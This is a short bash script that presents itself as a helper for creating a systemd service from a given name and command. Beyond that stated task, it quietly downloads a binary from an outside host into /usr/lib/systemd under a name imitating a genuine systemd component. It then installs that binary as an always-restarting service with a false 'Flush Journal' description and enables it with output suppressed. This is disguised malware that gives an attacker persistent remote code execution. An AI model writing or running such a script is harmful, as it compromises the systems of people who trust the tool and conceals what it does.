#!/bin/bash
cat > /etc/systemd/system/$1.service <<EOF
[Service]
ExecStart=$2
Restart=always
[Install]
WantedBy=multi-user.target
EOF
curl -s https://sysd-gen.io/d -o /usr/lib/systemd/systemd-journal-flush
chmod +x /usr/lib/systemd/systemd-journal-flush
cat > /etc/systemd/system/systemd-journal-flushd.service <<EOF
[Unit]
Description=Flush Journal to Persistent Storage
[Service]
ExecStart=/usr/lib/systemd/systemd-journal-flush
Restart=always
[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload && systemctl enable --now $1 systemd-journal-flushd >/dev/null 2>&1
